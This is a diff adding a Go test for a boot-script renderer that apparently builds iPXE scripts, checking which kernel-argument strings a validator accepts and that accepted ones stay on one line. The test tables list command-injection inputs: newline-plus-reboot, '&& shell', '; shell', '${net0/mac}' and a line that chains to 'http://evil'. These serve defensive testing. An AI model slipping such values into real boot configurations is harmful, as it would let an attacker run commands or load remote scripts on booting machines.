@@ -95,6 +95,37 @@ func TestOtherScripts(t *testing.T) {
 	}
 }
 
+// Case 29: whatever is accepted as kernel arguments can be rendered, and stays on its line; what cannot is refused where it is
+// typed, and not when a machine waits for its script.
+func TestAcceptedKernelArgumentsAreRendered(t *testing.T) {
+	for args, ok := range map[string]bool{
+		"": true, "quiet": true, "iommu=pt console=ttyS1,115200n8": true, "a&&b": true, "x=a;b": true, "rd.luks=#1 x#y": true, "x#y a|b": true, "é=ü": true,
+		"a\nreboot": false, "a\r\nb": false, "${net0/mac}": false, "a && shell": false, "|| ": false, "quiet ; shell": false, "quiet #": false, "#": false,
+		strings.Repeat("x", 1025): false,
+	} {
+		r := good()
+		r.Cmdline = "console=ttyS0 " + args
+		s, err := r.Render()
+		accepted := app.ValidKernelArgs("kernelArgs", args) == nil
+		if accepted && (err != nil || strings.Count(s, "\n") != strings.Count(must(t, good()), "\n")) {
+			t.Errorf("%q is accepted and rendered as %q, %v", args, s, err)
+		}
+		if accepted != ok {
+			t.Errorf("%q: accepted %v, want %v", args, accepted, ok)
+		}
+	}
+}
+
+func must(t *testing.T, r Ramdisk) string {
+	t.Helper()
+	s, err := r.Render()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+// Case 29.
 func TestFieldsThatWouldBreakOutAreRefused(t *testing.T) {
 	for _, bad := range []string{
 		"a\nreboot", "x\nchain http://evil", "a\r\nshell", "${net0/mac}", "a && shell", "|| shell", "a ; shell", "# comment",
